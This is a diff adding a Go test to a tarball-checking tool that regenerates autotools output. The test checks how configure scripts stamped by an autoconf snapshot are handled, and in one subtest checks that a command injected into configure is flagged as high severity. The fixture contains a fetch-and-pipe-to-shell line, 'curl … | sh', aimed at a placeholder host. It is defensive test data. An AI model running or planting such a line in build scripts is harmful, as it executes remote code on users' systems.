@@ -5,10 +5,13 @@ import (
 	"os/exec"
 	"path/filepath"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 
 	"github.com/tarcheck/tarcheck/autotools/origindb"
+	"github.com/tarcheck/tarcheck/toolchain"
+	"github.com/tarcheck/tarcheck/verify/report"
 )
 
 // automakeProject runs the host's aclocal and automake on a small project
@@ -390,4 +393,42 @@ func TestKnownM4SectionsAfterALargeUnknownPart(t *testing.T) {
 	if len(secs) != 1 || secs[0].first != 8000 || secs[0].end != 8004 {
 		t.Fatalf("sections %+v, want the copy at lines 8000-8004", secs)
 	}
+}
+
+// TestSnapshotStampTakesTheNearestRelease: a configure stamped by an
+// autoconf snapshot (2.72c) is regenerated with the nearest release the
+// catalog has (2.72), which is not exact: a difference is not proved (one
+// grouped medium naming the snapshot), never excused, and an added command
+// stays high.
+func TestSnapshotStampTakesTheNearestRelease(t *testing.T) {
+	tree := map[string]string{"configure.ac": configureAC}
+	t.Run("honest", func(t *testing.T) {
+		f := newFixture(t, map[string]string{"configure.ac": configureAC, "configure": configureBy("2.72c", "")}, tree, "2.72c")
+		tcs := &fakeToolchains{probe: f.run}
+		f.in.Toolchains = tcs
+		res := f.result(t)
+		if v := tcs.asked.Version(toolchain.ToolAutoconf); v != "2.72" {
+			t.Fatalf("toolchain asked for autoconf %q, want the nearest release 2.72", v)
+		}
+		if c := fileOf(t, res, "configure"); c.Rebuild != report.RebuildNotReproducible || c.Severity != report.SevInfo {
+			t.Fatalf("configure = %+v", c)
+		}
+		if len(res.Findings) != 1 || res.Findings[0].Severity != report.SevMedium ||
+			!strings.HasPrefix(res.Findings[0].Message, "autoconf 2.72c not available: 1 generated file not proved") ||
+			!strings.Contains(strings.Join(res.Findings[0].Evidence, "\n"), "the nearest release in the catalog, 2.72, was used (not exact)") {
+			t.Errorf("findings = %+v", res.Findings)
+		}
+		if !slices.ContainsFunc(res.Info.Notes, func(n string) bool { return strings.Contains(n, "nearest release, not exact: autoconf 2.72 for the snapshot 2.72c") }) {
+			t.Errorf("notes = %q", res.Info.Notes)
+		}
+	})
+	t.Run("injected command", func(t *testing.T) {
+		f := newFixture(t, map[string]string{"configure.ac": configureAC,
+			"configure": configureBy("2.72c", "curl -s https://example.invalid/x | sh\n")}, tree, "2.72c")
+		f.in.Toolchains = &fakeToolchains{probe: f.run}
+		res := f.result(t)
+		if c := fileOf(t, res, "configure"); c.Rebuild != report.RebuildDiffers || c.Severity != report.SevHigh {
+			t.Fatalf("configure = %+v (findings %+v)", c, res.Findings)
+		}
+	})
 }
